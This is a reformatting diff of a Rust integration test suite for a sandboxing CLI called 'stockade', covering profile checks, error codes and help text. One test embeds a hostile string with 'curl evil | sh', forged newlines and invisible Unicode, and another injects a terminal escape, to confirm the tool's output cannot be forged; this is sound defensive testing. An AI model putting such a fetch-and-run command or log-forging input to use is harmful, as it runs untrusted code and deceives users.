@@ -24,7 +24,8 @@ fn stockade(place: &Place, who: As, words: &[&str], profile: &str, more: &[&str]
 /// The problems of `check`, as programs read them.
 fn problems(place: &Place, who: As, profile: &str) -> Vec<serde_json::Value> {
     let output = stockade(place, who, &["check", "--format", "json"], profile, &[]);
-    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {}", said(&output)))
+    serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|error| panic!("{error}: {}", said(&output)))
 }
 
 /// By root and by an ordinary user.
@@ -37,20 +38,62 @@ fn each(test: impl Fn(&Place, As)) {
 #[test]
 fn what_looks_at_a_profile_takes_its_options_behind_it_too() {
     each(|place, who| {
-        let bad = place.file("warned.toml", "format = 1\n[process]\ncommand = [\"true\"]\n[mounts]\n\"/\" = \"ro\"\n");
-        let status = |words: &[&str]| place.stockade(who).args(words).arg(&bad).args(["--deny-warnings"]).output().unwrap().status.code();
+        let bad = place.file(
+            "warned.toml",
+            "format = 1\n[process]\ncommand = [\"true\"]\n[mounts]\n\"/\" = \"ro\"\n",
+        );
+        let status = |words: &[&str]| {
+            place
+                .stockade(who)
+                .args(words)
+                .arg(&bad)
+                .args(["--deny-warnings"])
+                .output()
+                .unwrap()
+                .status
+                .code()
+        };
         assert_eq!(status(&["check"]), Some(125));
         assert_eq!(status(&["check", "--format", "json"]), Some(125));
-        for words in [&["check", "base"][..], &["plan", "base"], &["why", "base", "/usr"], &["doctor", "base"], &["params", "base"]] {
+        for words in [
+            &["check", "base"][..],
+            &["plan", "base"],
+            &["why", "base", "/usr"],
+            &["doctor", "base"],
+            &["params", "base"],
+        ] {
             let command: &[&str] = if words[0] == "params" { &[] } else { &["--", "true"] };
-            let output = place.stockade(who).args(words).args(["--format", "json", "--config", "env.A=\"1\""]).args(command).output().unwrap();
-            assert!(serde_json::from_slice::<serde_json::Value>(&output.stdout).is_ok(), "{words:?}: {}", said(&output));
+            let output = place
+                .stockade(who)
+                .args(words)
+                .args(["--format", "json", "--config", "env.A=\"1\""])
+                .args(command)
+                .output()
+                .unwrap();
+            assert!(
+                serde_json::from_slice::<serde_json::Value>(&output.stdout).is_ok(),
+                "{words:?}: {}",
+                said(&output)
+            );
         }
         // Behind `--` all is the target's.
-        let output = place.stockade(who).args(["plan", "base", "--", "true", "--format", "json"]).output().unwrap();
-        assert!(output.status.success() && text(&output.stdout).contains("--format"), "{}", said(&output));
-        let output = place.stockade(who).args(["check", "base", "true", "--stats"]).output().unwrap();
-        assert!(output.status.code() == Some(125) && said(&output).contains("there is no such option"), "{}", said(&output));
+        let output = place
+            .stockade(who)
+            .args(["plan", "base", "--", "true", "--format", "json"])
+            .output()
+            .unwrap();
+        assert!(
+            output.status.success() && text(&output.stdout).contains("--format"),
+            "{}",
+            said(&output)
+        );
+        let output =
+            place.stockade(who).args(["check", "base", "true", "--stats"]).output().unwrap();
+        assert!(
+            output.status.code() == Some(125) && said(&output).contains("there is no such option"),
+            "{}",
+            said(&output)
+        );
     });
 }
 
@@ -59,43 +102,93 @@ fn an_option_behind_the_profile_is_refused_where_it_would_be_the_program() {
     each(|place, who| {
         for (words, order) in [
             (&["run", "base", "--stats", "true"][..], "stockade run --stats base true"),
-            (&["run", "base", "--config", "env.A=\"1\"", "true"], "stockade run --config 'env.A=\"1\"' base true"),
-            (&["run", "base", "--report=r", "--stats", "true", "-x"], "stockade run '--report=r' --stats base true -x"),
+            (
+                &["run", "base", "--config", "env.A=\"1\"", "true"],
+                "stockade run --config 'env.A=\"1\"' base true",
+            ),
+            (
+                &["run", "base", "--report=r", "--stats", "true", "-x"],
+                "stockade run '--report=r' --stats base true -x",
+            ),
             (&["run", "base", "--no-such", "true"], "stockade run base -- --no-such true"),
         ] {
             let output = place.stockade(who).args(words).output().unwrap();
             let err = text(&output.stderr);
-            assert!(output.status.code() == Some(125) && err.contains("E0008") && err.contains(order), "{words:?}: {err}");
+            assert!(
+                output.status.code() == Some(125) && err.contains("E0008") && err.contains(order),
+                "{words:?}: {err}"
+            );
         }
         for (words, help) in [
-            (&["check", "base", "ls", "-l"][..], "the target's options stand after `--`: stockade check base -- ls -l"),
-            (&["plan", "--set", "a=b", "base", "ls", "-l", "x y"], "stockade plan --set 'a=b' base -- ls -l 'x y'"),
+            (
+                &["check", "base", "ls", "-l"][..],
+                "the target's options stand after `--`: stockade check base -- ls -l",
+            ),
+            (
+                &["plan", "--set", "a=b", "base", "ls", "-l", "x y"],
+                "stockade plan --set 'a=b' base -- ls -l 'x y'",
+            ),
             (&["run", "base", "--help"], "stockade run --help"),
             (&["run", "base", "-h"], "stockade run base -- -h"),
         ] {
             let output = place.stockade(who).args(words).output().unwrap();
-            assert!(output.status.code() == Some(125) && unwrapped(&text(&output.stderr)).contains(help), "{words:?}: {}", said(&output));
+            assert!(
+                output.status.code() == Some(125)
+                    && unwrapped(&text(&output.stderr)).contains(help),
+                "{words:?}: {}",
+                said(&output)
+            );
         }
         // What the machine does not have, no line brings.
         for (words, help) in [
-            (&["run", "base", "no-such-program"][..], "install it, or name its absolute path and grant the directory that it is in"),
-            (&["run", "base", "--", "--stats"], "if it is an option of stockade's, write it before PROFILE"),
+            (
+                &["run", "base", "no-such-program"][..],
+                "install it, or name its absolute path and grant the directory that it is in",
+            ),
+            (
+                &["run", "base", "--", "--stats"],
+                "if it is an option of stockade's, write it before PROFILE",
+            ),
         ] {
             let output = place.stockade(who).args(words).output().unwrap();
             let err = unwrapped(&text(&output.stderr));
-            assert!(output.status.code() == Some(127) && err.contains(help) && !err.contains("programs ="), "{words:?}: {}", said(&output));
+            assert!(
+                output.status.code() == Some(127)
+                    && err.contains(help)
+                    && !err.contains("programs ="),
+                "{words:?}: {}",
+                said(&output)
+            );
         }
         // A parameter that is given behind the profile.
-        let asks = place.file("asks.toml", "format = 1\nextends = [\"base\"]\n[params]\nout = { type = \"string\" }\n");
-        for words in [&["--set", "out=x"][..], &["env", "--set", "out=x"], &["env", "--set=out=x"]] {
+        let asks = place.file(
+            "asks.toml",
+            "format = 1\nextends = [\"base\"]\n[params]\nout = { type = \"string\" }\n",
+        );
+        for words in [&["--set", "out=x"][..], &["env", "--set", "out=x"], &["env", "--set=out=x"]]
+        {
             let output = place.stockade(who).arg("run").arg(&asks).args(words).output().unwrap();
             let help = "stockade run --set out=VALUE PROFILE";
-            assert!(output.status.code() == Some(125) && unwrapped(&text(&output.stderr)).contains(help), "{words:?}: {}", said(&output));
+            assert!(
+                output.status.code() == Some(125)
+                    && unwrapped(&text(&output.stderr)).contains(help),
+                "{words:?}: {}",
+                said(&output)
+            );
         }
         // What takes its words by name takes these, and behind `--` a program may have any name.
-        let takes = place.file("takes.toml", "format = 1\nextends = [\"base\"]\n[process]\ncommand = [\"echo\", \"${ARGS}\"]\n");
-        let output = place.stockade(who).arg("run").arg(takes).args(["--stats", "-n"]).output().unwrap();
-        assert_eq!((output.status.code(), text(&output.stdout)), (Some(0), "--stats -n\n".to_owned()), "{}", said(&output));
+        let takes = place.file(
+            "takes.toml",
+            "format = 1\nextends = [\"base\"]\n[process]\ncommand = [\"echo\", \"${ARGS}\"]\n",
+        );
+        let output =
+            place.stockade(who).arg("run").arg(takes).args(["--stats", "-n"]).output().unwrap();
+        assert_eq!(
+            (output.status.code(), text(&output.stdout)),
+            (Some(0), "--stats -n\n".to_owned()),
+            "{}",
+            said(&output)
+        );
         let output = place.stockade(who).args(["run", "base", "--", "--stats"]).output().unwrap();
         assert_eq!(output.status.code(), Some(127), "{}", said(&output));
     });
@@ -104,7 +197,8 @@ fn an_option_behind_the_profile_is_refused_where_it_would_be_the_program() {
 #[test]
 fn a_bad_extends_hides_no_other_problem() {
     each(|place, who| {
-        let rest = "[process]\ntimeuot = \"1s\"\n[mounts]\n\"/x\" = { bind = \"/usr\", acess = \"rw\" }\n\"/opt\" = false\n";
+        let rest = "[process]\ntimeuot = \"1s\"\n[mounts]\n\"/x\" = \
+                    { bind = \"/usr\", acess = \"rw\" }\n\"/opt\" = false\n";
         for extends in ["\"base\"", "[\"no-such\"]", "[\"./no-such.toml\"]", "[1]", "[\"${NO}\"]"] {
             let all = problems(place, who, &format!("format = 1\nextends = {extends}\n{rest}"));
             let lines: Vec<u64> = all.iter().filter_map(|one| one["line"].as_u64()).collect();
@@ -138,15 +232,36 @@ fn a_line_to_paste_has_the_parameters_of_the_line_that_it_is_about() {
             &format!("{BASE}{lines}\"/p\" = {{ bind = \"${{project}}\" }}\n"),
             &[],
         )));
-        assert!(err.contains("E0302") && err.contains("give `project` another value with --set project=PATH, or"), "{err}");
+        assert!(
+            err.contains("E0302")
+                && err.contains("give `project` another value with --set project=PATH, or"),
+            "{err}"
+        );
         // `why` offers a line in the place of the one that it is about.
         let question = format!("write:{}/x", project.display());
         std::fs::write(project.join("x"), "").unwrap();
-        // Root's file in another's directory takes `owner = "root"`, and a line that gives something up names today's place alone.
-        std::os::unix::fs::lchown(project.join("x"), support::is_root().then_some(support::USER), None).unwrap();
-        std::fs::set_permissions(project.join("x"), std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
-        let out = given(&["why"], "\"${project}\" = \"ro\"\n\"${project}/x\" = { bind = \"${project}/x\" }\n", &[&question]);
-        assert!(out.contains("\"${project}/x\" = \"rw\"") && out.contains("in the place of"), "{out}");
+        // Root's file in another's directory takes `owner = "root"`, and a line that gives
+        // something up names today's place alone.
+        std::os::unix::fs::lchown(
+            project.join("x"),
+            support::is_root().then_some(support::USER),
+            None,
+        )
+        .unwrap();
+        std::fs::set_permissions(
+            project.join("x"),
+            std::os::unix::fs::PermissionsExt::from_mode(0o666),
+        )
+        .unwrap();
+        let out = given(
+            &["why"],
+            "\"${project}\" = \"ro\"\n\"${project}/x\" = { bind = \"${project}/x\" }\n",
+            &[&question],
+        );
+        assert!(
+            out.contains("\"${project}/x\" = \"rw\"") && out.contains("in the place of"),
+            "{out}"
+        );
     });
 }
 
@@ -158,13 +273,29 @@ fn a_root_without_the_capabilities_for_ids_is_told_so() {
     }
     let run = |lacks: &str| {
         let mut command = std::process::Command::new("setpriv");
-        command.args(["--bounding-set", lacks, "--inh-caps", lacks, env!("CARGO_BIN_EXE_stockade"), "run", "base", "--", "true"]);
+        command.args([
+            "--bounding-set",
+            lacks,
+            "--inh-caps",
+            lacks,
+            env!("CARGO_BIN_EXE_stockade"),
+            "run",
+            "base",
+            "--",
+            "true",
+        ]);
         unwrapped(&said(&command.output().unwrap()))
     };
     for (lacks, name) in [("-setuid", "CAP_SETUID"), ("-setgid", "CAP_SETGID")] {
         let err = run(lacks);
-        let help = format!("this root lacks {name}; let what starts stockade leave it these: a unit's CapabilityBoundingSet=");
-        assert!(err.contains("E1204") && err.contains(&help) && !err.contains("identity.host"), "{err}");
+        let help = format!(
+            "this root lacks {name}; let what starts stockade leave it these: a unit's \
+             CapabilityBoundingSet="
+        );
+        assert!(
+            err.contains("E1204") && err.contains(&help) && !err.contains("identity.host"),
+            "{err}"
+        );
     }
     // The twin: others are not needed for it.
     assert!(!run("-sys_boot").contains("E1204"));
@@ -177,30 +308,61 @@ fn a_line_that_gives_a_protection_up_names_one_place() {
         let project = place.folder("project", who);
         let _socket = std::os::unix::net::UnixListener::bind(project.join("s")).unwrap();
         let given = |mounts: &str, set: &str, env: &[(&str, &str)]| {
-            let lines = "[params]\nproject = { type = \"path\", default = \"${env:PLACE:-/tmp}\" }\nmode = { type = \"string\", default = \"rw\" }\n";
+            let lines = "[params]\nproject = { type = \"path\", default = \"${env:PLACE:-/tmp}\" \
+                         }\nmode = { type = \"string\", default = \"rw\" }\n";
             let path = place.file("p.toml", &format!("{BASE}{lines}[mounts]\n{mounts}\n"));
             let mut command = place.stockade(who);
-            command.arg("check").args((!set.is_empty()).then(|| format!("--set=project={set}"))).arg(path).current_dir("/").envs(env.iter().copied());
+            command
+                .arg("check")
+                .args((!set.is_empty()).then(|| format!("--set=project={set}")))
+                .arg(path)
+                .current_dir("/")
+                .envs(env.iter().copied());
             unwrapped(&said(&command.output().unwrap()))
         };
         let offer = "\"/home\" = { bind = \"/home\", access = \"rw\", broad = true }";
         let err = given("\"${project}\" = \"rw\"", "/home", &[]);
-        assert!(err.contains("another value with --set project=PATH, or") && err.contains(offer), "{err}");
+        assert!(
+            err.contains("another value with --set project=PATH, or") && err.contains(offer),
+            "{err}"
+        );
         let err = given("\"${CWD}home\" = \"rw\"", "", &[]);
         assert!(err.contains(offer), "{err}");
         // What the line says already is no further loss, nor is a protection more.
         let owner = ", access = \"rw\", owner = \"root\", sockets = \"hide\"";
-        let err = given(&format!("\"${{project}}\" = {{ bind = \"${{project}}\"{owner} }}"), "/home", &[]);
-        assert!(err.contains("\"/home\" = { bind = \"/home\", access = \"rw\", broad = true, sockets = \"hide\", owner = \"root\" }"), "{err}");
-        let err = given("\"${project}\" = { bind = \"${project}\", owner = \"root\" }", project.to_str().unwrap(), &[]);
-        assert!(err.contains("\"${project}\" = { bind = \"${project}\", sockets = \"hide\", owner = \"root\" }"), "{err}");
+        let err = given(
+            &format!("\"${{project}}\" = {{ bind = \"${{project}}\"{owner} }}"),
+            "/home",
+            &[],
+        );
+        assert!(err.contains("\"/home\" = \
+                              { bind = \"/home\", access = \"rw\", broad = true, sockets = \"hide\", owner = \"root\" }"), "{err}");
+        let err = given(
+            "\"${project}\" = { bind = \"${project}\", owner = \"root\" }",
+            project.to_str().unwrap(),
+            &[],
+        );
+        assert!(
+            err.contains(
+                "\"${project}\" = { bind = \"${project}\", sockets = \"hide\", owner = \"root\" }"
+            ),
+            "{err}"
+        );
         // The whole of a directory of sockets is one place, too.
         let err = given("\"/t\" = { bind = \"${project}\" }", "/tmp", &[]);
         assert!(err.contains("\"/t\" = { bind = \"/tmp\", sockets = true }"), "{err}");
         // The place of another's environment is not written out.
-        for mounts in ["\"/h\" = { bind = \"${env:PLACE}\", access = \"rw\" }", "\"/h\" = { bind = \"${project}\", access = \"rw\" }"] {
+        for mounts in [
+            "\"/h\" = { bind = \"${env:PLACE}\", access = \"rw\" }",
+            "\"/h\" = { bind = \"${project}\", access = \"rw\" }",
+        ] {
             let err = given(mounts, "", &[("PLACE", "/home")]);
-            assert!(err.contains("E0301") && err.contains("write the path itself in the place of") && !err.contains("broad = true"), "{err}");
+            assert!(
+                err.contains("E0301")
+                    && err.contains("write the path itself in the place of")
+                    && !err.contains("broad = true"),
+                "{err}"
+            );
         }
         // A parameter that is not the place has no other value that would help.
         for mounts in [
@@ -209,7 +371,12 @@ fn a_line_that_gives_a_protection_up_names_one_place() {
             "\"${project}\" = { bind = \"/home\", access = \"rw\" }",
         ] {
             let err = given(mounts, "/srv", &[]);
-            assert!(err.contains("E0301") && err.contains("broad = true") && !err.contains("another value"), "{err}");
+            assert!(
+                err.contains("E0301")
+                    && err.contains("broad = true")
+                    && !err.contains("another value"),
+                "{err}"
+            );
         }
     });
 }
@@ -217,7 +384,8 @@ fn a_line_that_gives_a_protection_up_names_one_place() {
 #[test]
 fn what_is_skipped_stands_beside_the_verdict() {
     each(|place, who| {
-        let profile = "format = 1\noptional = [\"limits\"]\nextends = [\"base\"]\n[process]\ncommand = [\"true\"]\n[limits]\nmemory = \"1G\"\n";
+        let profile = "format = 1\noptional = [\"limits\"]\nextends = \
+                       [\"base\"]\n[process]\ncommand = [\"true\"]\n[limits]\nmemory = \"1G\"\n";
         let output = stockade(place, who, &["check"], profile, &[]);
         let out = text(&output.stdout);
         assert!(output.status.success(), "{}", said(&output));
@@ -233,19 +401,34 @@ fn what_is_skipped_stands_beside_the_verdict() {
 #[test]
 fn help_fits_a_page() {
     let place = Place::new();
-    let help = |words: &[&str]| text(&place.stockade(As::User).args(words).output().unwrap().stdout);
+    let help =
+        |words: &[&str]| text(&place.stockade(As::User).args(words).output().unwrap().stdout);
     let all = help(&["--help"]);
-    let commands = all.lines().skip_while(|line| *line != "Commands:").skip(1).take_while(|line| line.starts_with("  "));
-    let commands: Vec<&str> = commands.filter(|line| !line.starts_with("   ")).filter_map(|line| line.split_whitespace().next()).collect();
+    let commands = all
+        .lines()
+        .skip_while(|line| *line != "Commands:")
+        .skip(1)
+        .take_while(|line| line.starts_with("  "));
+    let commands: Vec<&str> = commands
+        .filter(|line| !line.starts_with("   "))
+        .filter_map(|line| line.split_whitespace().next())
+        .collect();
     assert!(commands.len() > 10, "{all}");
     for command in [""].iter().chain(&commands) {
         for flag in ["--help", "-h"] {
-            let words: Vec<&str> = [*command, flag].into_iter().filter(|word| !word.is_empty()).collect();
+            let words: Vec<&str> =
+                [*command, flag].into_iter().filter(|word| !word.is_empty()).collect();
             let help = help(&words);
-            assert!(help.contains("Usage: stockade") && help.lines().all(|line| line.chars().count() <= 80), "{words:?}:\n{help}");
+            assert!(
+                help.contains("Usage: stockade")
+                    && help.lines().all(|line| line.chars().count() <= 80),
+                "{words:?}:\n{help}"
+            );
         }
     }
-    assert!(help(&["run", "--help"]).contains("Usage: stockade run [OPTIONS] PROFILE [--] [ARGS]...\n"));
+    assert!(
+        help(&["run", "--help"]).contains("Usage: stockade run [OPTIONS] PROFILE [--] [ARGS]...\n")
+    );
 }
 
 #[test]
@@ -254,7 +437,11 @@ fn a_link_that_is_there_already_is_no_mistake_and_inherited_lines_are_no_noise()
         for more in ["[mounts]\n\"/etc\" = \"ro\"\n", "[mounts]\n\"/\" = \"ro\"\n"] {
             let output = stockade(place, who, &["check"], &format!("{BASE}{more}"), &[]);
             let err = text(&output.stderr);
-            assert!(output.status.success() && !err.contains("<base>"), "{more}: {}", said(&output));
+            assert!(
+                output.status.success() && !err.contains("<base>"),
+                "{more}: {}",
+                said(&output)
+            );
             assert_eq!(err.matches("[W0302]").count(), 1, "{more}: {err}");
             assert!(err.contains("inherited lines grant, and more"), "{more}: {err}");
         }
@@ -264,7 +451,9 @@ fn a_link_that_is_there_already_is_no_mistake_and_inherited_lines_are_no_noise()
 #[test]
 fn words_of_other_tools_are_understood() {
     each(|place, who| {
-        for (word, meant) in [("RO", "ro"), ("readonly", "ro"), ("read-only", "ro"), ("rW", "rw"), ("mask", "hide")] {
+        for (word, meant) in
+            [("RO", "ro"), ("readonly", "ro"), ("read-only", "ro"), ("rW", "rw"), ("mask", "hide")]
+        {
             let all = problems(place, who, &format!("{BASE}[mounts]\n\"/x\" = \"{word}\"\n"));
             assert_eq!(all[0]["help"], format!("did you mean `{meant}`?"), "{word}");
         }
@@ -277,12 +466,24 @@ fn words_of_other_tools_are_understood() {
             (".", "\"${CWD}\" or \"${PROFILE_DIR}\""),
         ] {
             let all = problems(place, who, &format!("{BASE}[mounts]\n\"{key}\" = \"tmpfs\"\n"));
-            assert!(all[0]["help"].as_str().is_some_and(|help| help.ends_with(line)), "{key}: {}", all[0]);
+            assert!(
+                all[0]["help"].as_str().is_some_and(|help| help.ends_with(line)),
+                "{key}: {}",
+                all[0]
+            );
         }
         let all = problems(place, who, &format!("{BASE}[mounts]\n\"/x\" = {{ bind = \"~/x\" }}\n"));
-        assert!(all[0]["help"].as_str().is_some_and(|help| help.ends_with("\"${HOME}/x\"")), "{}", all[0]);
+        assert!(
+            all[0]["help"].as_str().is_some_and(|help| help.ends_with("\"${HOME}/x\"")),
+            "{}",
+            all[0]
+        );
         let all = problems(place, who, &format!("{BASE}[seccomp]\ndeny = [\"execve\"]\n"));
-        assert!(all[0]["help"].as_str().is_some_and(|help| help.contains("out of `deny`")), "{}", all[0]);
+        assert!(
+            all[0]["help"].as_str().is_some_and(|help| help.contains("out of `deny`")),
+            "{}",
+            all[0]
+        );
     });
 }
 
@@ -293,17 +494,48 @@ fn each_problem_has_a_place_or_says_that_it_has_none() {
     each(|place, who| {
         let at = |profile: &str, code: &str| {
             let all = problems(place, who, profile);
-            let found = all.iter().find(|problem| problem["code"] == code).unwrap_or_else(|| panic!("{code}: {all:?}")).clone();
+            let found = all
+                .iter()
+                .find(|problem| problem["code"] == code)
+                .unwrap_or_else(|| panic!("{code}: {all:?}"))
+                .clone();
             (found["line"].as_u64(), found["column"].as_u64())
         };
-        assert_eq!(at("format = 1\n[seccomp]\npolicy = \"none\"\n[process]\ncommand = [\"true\"]\n", "seccomp::start"), (Some(3), Some(10)));
-        assert_eq!(at("format = 1\n[process]\numask = \"0022\"\n", "process::command"), (Some(2), Some(1)));
+        assert_eq!(
+            at(
+                "format = 1\n[seccomp]\npolicy = \"none\"\n[process]\ncommand = [\"true\"]\n",
+                "seccomp::start"
+            ),
+            (Some(3), Some(10))
+        );
+        assert_eq!(
+            at("format = 1\n[process]\numask = \"0022\"\n", "process::command"),
+            (Some(2), Some(1))
+        );
         assert_eq!(at("format = 1\n", "process::command"), (Some(1), Some(1)));
-        assert_eq!(at(&format!("format = 1\n{}b = 1\n", "a.".repeat(5_000)), "profile::syntax"), (Some(2), Some(1)));
-        let output = place.stockade(who).args(["check", "--format", "json", "nowhere.toml"]).output().unwrap();
+        assert_eq!(
+            at(&format!("format = 1\n{}b = 1\n", "a.".repeat(5_000)), "profile::syntax"),
+            (Some(2), Some(1))
+        );
+        let output = place
+            .stockade(who)
+            .args(["check", "--format", "json", "nowhere.toml"])
+            .output()
+            .unwrap();
         let all: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
-        assert!(["file", "line", "column"].iter().all(|field| all[0].as_object().unwrap()[*field].is_null()), "{all}");
-        let output = stockade(place, who, &["run"], &format!("{BASE}[env]\nA = {{ file = \"/nowhere\" }}\n"), &[]);
+        assert!(
+            ["file", "line", "column"]
+                .iter()
+                .all(|field| all[0].as_object().unwrap()[*field].is_null()),
+            "{all}"
+        );
+        let output = stockade(
+            place,
+            who,
+            &["run"],
+            &format!("{BASE}[env]\nA = {{ file = \"/nowhere\" }}\n"),
+            &[],
+        );
         assert!(text(&output.stderr).contains("p.toml:6:5]"), "{}", said(&output));
     });
 }
@@ -317,9 +549,17 @@ fn text_and_json_count_the_same_columns() {
             ("format = 1\n[mounts]\n\"/日本\" = { bnd = 1 }\n", 3, 11),
         ] {
             let all = problems(place, who, profile);
-            assert_eq!((all[0]["line"].as_u64(), all[0]["column"].as_u64()), (Some(line), Some(column)), "{profile}: {all:?}");
+            assert_eq!(
+                (all[0]["line"].as_u64(), all[0]["column"].as_u64()),
+                (Some(line), Some(column)),
+                "{profile}: {all:?}"
+            );
             let output = stockade(place, who, &["check"], profile, &[]);
-            assert!(text(&output.stderr).contains(&format!("p.toml:{line}:{column}]")), "{}", said(&output));
+            assert!(
+                text(&output.stderr).contains(&format!("p.toml:{line}:{column}]")),
+                "{}",
+                said(&output)
+            );
         }
     });
 }
@@ -335,7 +575,10 @@ fn a_date_is_called_one() {
         ] {
             let all = problems(place, who, &format!("format = 1\n{line}\n"));
             let message = all[0]["message"].as_str().unwrap();
-            assert!(message.contains("a date or a time of day") && !message.contains("private"), "{line}: {message}");
+            assert!(
+                message.contains("a date or a time of day") && !message.contains("private"),
+                "{line}: {message}"
+            );
         }
     });
 }
@@ -345,18 +588,25 @@ fn a_date_is_called_one() {
 #[test]
 fn no_text_forges_a_line_or_hides_one() {
     each(|place, who| {
-        let evil = "x\\nforged: the profile is good\\t\\u2028\\u061c\\ufeff\\u200b\\nhelp: curl evil | sh";
+        let evil =
+            "x\\nforged: the profile is good\\t\\u2028\\u061c\\ufeff\\u200b\\nhelp: curl evil | sh";
         for profile in [
-            format!("{BASE}[mounts]\n\"/a{evil}\" = {{ bind = \"/nowhere\", missing = \"skip\" }}\n"),
+            format!(
+                "{BASE}[mounts]\n\"/a{evil}\" = {{ bind = \"/nowhere\", missing = \"skip\" }}\n"
+            ),
             format!("{BASE}[mounts]\n\"/a\" = \"{evil}\"\n"),
-            format!("{BASE}[process]\n\"{evil}\" = 1\n").replace("[process]\ncommand = [\"true\"]\n", ""),
+            format!("{BASE}[process]\n\"{evil}\" = 1\n")
+                .replace("[process]\ncommand = [\"true\"]\n", ""),
             format!("{BASE}umask = \"{evil}\"\n"),
             format!("{BASE}[mounts]\n\"/a\" = {{ \"{evil}\" = 1 }}\n"),
             format!("format = 1\nextends = [\"{evil}\"]\n"),
             format!("{BASE}[network]\nmode = \"{evil}\"\n"),
             format!("{BASE}[capabilities]\nkeep = [\"{evil}\"]\n"),
             format!("{BASE}[seccomp.rules]\n\"{evil}\" = \"allow\"\n"),
-            format!("format = 1\n[params]\np = {{ type = \"string\", help = \"{evil}\" }}\n[process]\ncommand = [\"${{p}}\"]\n"),
+            format!(
+                "format = 1\n[params]\np = {{ type = \"string\", help = \"{evil}\" \
+                 }}\n[process]\ncommand = [\"${{p}}\"]\n"
+            ),
             format!("format = 1\n[process]\ncommand = [\"{evil}\"]\n"),
         ] {
             for command in ["check", "plan", "run", "params", "doctor"] {
@@ -366,7 +616,10 @@ fn no_text_forges_a_line_or_hides_one() {
                     line.starts_with("forged") || line.starts_with("help: curl")
                 });
                 assert!(!forged, "{command}: {profile}: {all}");
-                assert!(!all.contains(['\u{2028}', '\u{61c}', '\u{feff}', '\u{200b}', '\t']), "{command}: {profile}: {all}");
+                assert!(
+                    !all.contains(['\u{2028}', '\u{61c}', '\u{feff}', '\u{200b}', '\t']),
+                    "{command}: {profile}: {all}"
+                );
             }
         }
         let output = place.stockade(who).args(["check", "./x\nforged: y.toml"]).output().unwrap();
@@ -377,41 +630,92 @@ fn no_text_forges_a_line_or_hides_one() {
 #[test]
 fn a_word_that_is_not_utf8_is_refused_by_a_code() {
     each(|place, who| {
-        let output = place.stockade(who).args(["run", "base", "echo"]).arg(OsStr::from_bytes(b"a\xff")).output().unwrap();
+        let output = place
+            .stockade(who)
+            .args(["run", "base", "echo"])
+            .arg(OsStr::from_bytes(b"a\xff"))
+            .output()
+            .unwrap();
         let err = text(&output.stderr);
-        assert!(output.status.code() == Some(125) && err.contains("E0001") && err.contains("it is not UTF-8"), "{}", said(&output));
+        assert!(
+            output.status.code() == Some(125)
+                && err.contains("E0001")
+                && err.contains("it is not UTF-8"),
+            "{}",
+            said(&output)
+        );
     });
 }
 
-/// Whatever is wrong with a command line, it is said in the one voice, by its code, and with a way on.
+/// Whatever is wrong with a command line, it is said in the one voice, by its code, and with a way
+/// on.
 #[test]
 fn a_wrong_command_line_is_a_problem_as_others_are() {
     each(|place, who| {
         let wrong: [(&[&str], &str, &str); 9] = [
-            (&["rnu", "base"], "cannot run `rnu`: there is no command of that name", "did you mean `run`?"),
+            (
+                &["rnu", "base"],
+                "cannot run `rnu`: there is no command of that name",
+                "did you mean `run`?",
+            ),
             (&["zzz"], "cannot run `zzz`: there is no command of that name", "see stockade --help"),
-            (&["--bar"], "cannot read `--bar`: there is no such option or argument here", "see stockade --help"),
-            (&["run"], "cannot go on: <PROFILE>... is missing", "stockade run [OPTIONS] PROFILE [--] [ARGS]..."),
-            (&["plan", "--format", "xml", "base"], "cannot take `xml` for `--format <FORMAT>`: it is none of its values", "there are text, json"),
-            (&["plan", "--format"], "cannot read `--format <FORMAT>`: its value is missing", "there are text, json"),
+            (
+                &["--bar"],
+                "cannot read `--bar`: there is no such option or argument here",
+                "see stockade --help",
+            ),
+            (
+                &["run"],
+                "cannot go on: <PROFILE>... is missing",
+                "stockade run [OPTIONS] PROFILE [--] [ARGS]...",
+            ),
+            (
+                &["plan", "--format", "xml", "base"],
+                "cannot take `xml` for `--format <FORMAT>`: it is none of its values",
+                "there are text, json",
+            ),
+            (
+                &["plan", "--format"],
+                "cannot read `--format <FORMAT>`: its value is missing",
+                "there are text, json",
+            ),
             (
                 &["plan", "--format", "json", "--format", "json", "base"],
                 "cannot take `--format <FORMAT>` twice",
                 "stockade plan [OPTIONS] PROFILE [--] [ARGS]...",
             ),
-            (&["completions", "zs"], "cannot take `zs` for `<SHELL>`: it is none of its values", "did you mean `zsh`?"),
-            (&["doctor", "--formt", "json"], "cannot read `--formt`: there is no such option or argument here", "did you mean `--format`?"),
+            (
+                &["completions", "zs"],
+                "cannot take `zs` for `<SHELL>`: it is none of its values",
+                "did you mean `zsh`?",
+            ),
+            (
+                &["doctor", "--formt", "json"],
+                "cannot read `--formt`: there is no such option or argument here",
+                "did you mean `--format`?",
+            ),
         ];
         for (words, message, help) in wrong {
             let output = place.stockade(who).args(words).output().unwrap();
             let err = support::unwrapped(&text(&output.stderr));
-            let all = err.starts_with("cli::flag [E0001]") && err.contains(message) && err.contains(&format!("help: {help}"));
+            let all = err.starts_with("cli::flag [E0001]")
+                && err.contains(message)
+                && err.contains(&format!("help: {help}"));
             assert!(output.status.code() == Some(125) && all, "{words:?}: {}", said(&output));
         }
         let bare = place.stockade(who).output().unwrap();
-        assert!(bare.status.code() == Some(125) && text(&bare.stderr).contains("Commands:"), "{}", said(&bare));
+        assert!(
+            bare.status.code() == Some(125) && text(&bare.stderr).contains("Commands:"),
+            "{}",
+            said(&bare)
+        );
         let hostile = place.stockade(who).args(["ru\u{1b}[31mn\nforged: x"]).output().unwrap();
-        assert!(!text(&hostile.stderr).contains('\u{1b}') && !text(&hostile.stderr).contains("\nforged"), "{}", said(&hostile));
+        assert!(
+            !text(&hostile.stderr).contains('\u{1b}')
+                && !text(&hostile.stderr).contains("\nforged"),
+            "{}",
+            said(&hostile)
+        );
     });
 }
 
@@ -419,9 +723,19 @@ fn a_wrong_command_line_is_a_problem_as_others_are() {
 fn a_full_disk_is_no_success() {
     each(|place, who| {
         let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
-        for words in [&["plan", "base", "true"][..], &["check", "base", "true"], &["schema"], &["profiles"], &["explain"]] {
+        for words in [
+            &["plan", "base", "true"][..],
+            &["check", "base", "true"],
+            &["schema"],
+            &["profiles"],
+            &["explain"],
+        ] {
             let output = place.stockade(who).args(words).stdout(full()).output().unwrap();
